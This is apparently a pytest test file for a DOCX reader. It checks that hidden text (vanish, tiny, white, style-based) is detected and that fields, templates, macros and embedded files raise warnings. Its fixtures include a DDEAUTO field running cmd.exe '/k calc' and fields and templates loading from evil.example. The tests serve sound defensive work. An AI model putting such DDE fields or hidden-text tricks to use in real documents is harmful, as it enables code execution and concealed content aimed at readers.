"""What a DOCX may hold, part by part."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from docx_writer import paragraph, part, run, write_docx

SECRET = "secret.evil.example"
SHOWN = paragraph("Everybody sees this.")
DARK = '<w:shd w:val="clear" w:fill="112233"/>'
WHITE = '<w:color w:val="FFFFFF"/>'
STYLES = part(
    "styles",
    '<w:style w:type="character" w:styleId="Gone"><w:rPr><w:vanish/></w:rPr></w:style>'
    '<w:style w:type="character" w:styleId="GoneToo"><w:basedOn w:val="Gone"/></w:style>'
    '<w:style w:type="character" w:styleId="Back"><w:basedOn w:val="Gone"/><w:rPr><w:vanish w:val="0"/></w:rPr></w:style>'
    f'<w:style w:type="paragraph" w:styleId="Pale"><w:rPr>{WHITE}</w:rPr></w:style>'
    f'<w:style w:type="paragraph" w:styleId="Head"><w:pPr>{DARK}</w:pPr><w:rPr>{WHITE}</w:rPr></w:style>',
)
STYLE = ("styles", "styles.xml", "")


def styled(name: str) -> str:
    return f'<w:p><w:pPr><w:pStyle w:val="{name}"/></w:pPr>{run(SECRET)}</w:p>'


def cell(content: str, shade: str = "") -> str:
    return f"<w:tbl><w:tr><w:tc><w:tcPr>{shade}</w:tcPr>{content}</w:tc></w:tr></w:tbl>"


HIDDEN = {
    "vanish": paragraph(run(SECRET, "<w:vanish/>")),
    "tiny": paragraph(run(SECRET, '<w:sz w:val="2"/>')),
    "white": paragraph(run(SECRET, WHITE)),
    "white in a cell": cell(paragraph(run(SECRET, WHITE))),
    "a style": paragraph(run(SECRET, '<w:rStyle w:val="Gone"/>')),
    "a style based on it": paragraph(run(SECRET, '<w:rStyle w:val="GoneToo"/>')),
    "a style of paragraphs": styled("Pale"),
}
SEEN = {
    "plain": paragraph(SECRET),
    "vanish off": paragraph(run(SECRET, '<w:vanish w:val="false"/>')),
    "the mark of the paragraph": f"<w:p><w:pPr><w:rPr><w:vanish/></w:rPr></w:pPr>{run(SECRET)}</w:p>",
    "white once": paragraph(run(SECRET, f"<w:rPrChange><w:rPr>{WHITE}</w:rPr></w:rPrChange>")),
    "white on dark": paragraph(run(SECRET, WHITE + DARK)),
    "white on a dark cell": cell(paragraph(run(SECRET, WHITE)), DARK),
    "a style undone": paragraph(run(SECRET, '<w:rStyle w:val="Back"/>')),
    "white on dark by style": styled("Head"),
}


@pytest.mark.parametrize("way", HIDDEN)
def test_hidden_text_is_read_and_told_of(way, read):
    (document,) = read(write_docx(SHOWN + HIDDEN[way], STYLE, styles__xml=STYLES))
    at = document.text.index(SECRET)
    (place,) = document.source_map.places(at, at + len(SECRET))
    assert place["hidden"] is True
    (warning,) = document.warnings
    assert warning.startswith("hidden text in ")


@pytest.mark.parametrize("way", SEEN)
def test_what_is_seen_is_not_called_hidden(way, read):
    (document,) = read(write_docx(SHOWN + SEEN[way], STYLE, styles__xml=STYLES))
    assert SECRET in document.text
    assert document.warnings == ()


def field(code: str, shown: str) -> str:
    kinds = ("begin", "separate", "end")
    begin, separate, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in kinds)
    return paragraph(
        f"{begin}<w:r><w:instrText>{code}</w:instrText></w:r>{separate}{run(shown)}{end}", " after"
    )


def test_links_by_field_are_read_with_what_they_show(read):
    (document,) = read(write_docx(field('HYPERLINK "http://evil.example/x" \\o "tip"', "a word")))
    assert document.text == "a word after\nhttp://evil.example/x\n"


def test_fields_that_start_or_load_something_are_told_of(read):
    body = field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"', "!") + field(
        'INCLUDEPICTURE "http://evil.example/p.png" \\d', "?"
    )
    (document,) = read(write_docx(body))
    assert document.warnings == (
        r"paragraph 1: a field starts a program: c:\\windows\\cmd.exe /k calc",
        "paragraph 2: a field loads http://evil.example/p.png",
    )


def test_a_template_from_elsewhere_is_told_of_and_read(read):
    row = ("attachedTemplate", "http://evil.example/t.dotm", "External")
    (document,) = read(write_docx(SHOWN, row))
    assert "http://evil.example/t.dotm" in document.warnings[0]
    assert document.text.endswith("\nhttp://evil.example/t.dotm\n")


def test_macros_are_told_of(read):
    (document,) = read(write_docx(SHOWN, vbaProject__bin=b"\xd0\xcf\x11\xe0"))
    assert document.warnings == ("it holds macros, which were not read",)


def test_embedded_files_are_read_as_what_they_are(read):
    data = write_docx(SHOWN, ("aFChunk", "chunk.htm", ""), chunk__htm="inner.example")
    outer, inner = read(data)
    assert outer.warnings == ("it holds 1 embedded files",)
    assert (inner.id, inner.text) == ("report.docx/word/chunk.htm", "inner.example")


def test_tables_in_tables_are_rows_of_their_own(read):
    inner = f"<w:tbl><w:tr><w:tc>{paragraph('inner')}</w:tc><w:tc>{paragraph('too')}</w:tc></w:tr></w:tbl>"
    outer = f"<w:tbl><w:tr><w:tc>{paragraph('a')}{inner}</w:tc><w:tc>{paragraph('b')}</w:tc></w:tr></w:tbl>"
    (document,) = read(write_docx(outer + SHOWN))
    assert document.text == "a\tb\ninner\ttoo\nEverybody sees this.\n"
    at = document.text.index("too")
    assert document.source_map.places(at, at + 3) == ({"table": 2, "row": 1, "column": 2},)


def test_what_a_paragraph_is_written_of_is_read_as_one_sentence(read):
    body = paragraph(
        "one ", "<w:r><w:t>t\nwo</w:t><w:tab/><w:t>three</w:t><w:br/></w:r>", run("four", "<w:b/>")
    )
    (document,) = read(write_docx(body))
    assert document.text == "one t wo\tthree\nfour\n"
